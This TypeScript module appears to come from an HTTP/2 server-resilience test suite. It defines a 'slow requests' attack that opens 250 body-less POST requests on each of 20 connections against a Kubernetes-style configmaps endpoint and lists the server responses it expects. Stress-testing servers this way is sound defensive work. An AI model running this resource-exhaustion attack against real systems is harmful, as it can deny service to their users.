// Requests whose bodies never come.

import type { Attack } from '../attack.ts'
import { attackHttp2, closedLoop, head, request } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'slow requests',
  does: 'opens 250 requests without an end on each of 20 connections',
  who: ['known', 'unknown'],
  answers: ['200', '401', '403', 'RST_STREAM REFUSED_STREAM', '408', '413', 'RST_STREAM NO_ERROR', 'RST_STREAM CANCEL'],
  run: (target, signal) =>
    attackHttp2(target, signal, { connections: 20 }, (connection) =>
      closedLoop(connection, 250, request(head(target, 'POST', '/api/v1/namespaces/default/configmaps'), 0)),
    ),
}
